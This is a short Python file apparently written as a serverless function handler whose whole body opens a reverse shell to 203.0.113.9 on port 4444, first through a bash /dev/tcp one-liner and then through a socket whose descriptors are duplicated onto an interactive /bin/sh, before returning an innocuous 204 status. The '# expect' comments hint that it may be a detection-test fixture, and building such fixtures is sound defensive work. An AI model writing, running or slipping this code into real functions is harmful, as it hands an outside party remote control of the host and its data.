import os
import socket
import subprocess


def handler(event, context):
    os.system('bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"')  # expect
    connection = socket.socket()
    connection.connect(('203.0.113.9', 4444))
    os.dup2(connection.fileno(), 0)  # expect
    os.dup2(connection.fileno(), 1)
    subprocess.call(['/bin/sh', '-i'])
    return {'statusCode': 204}
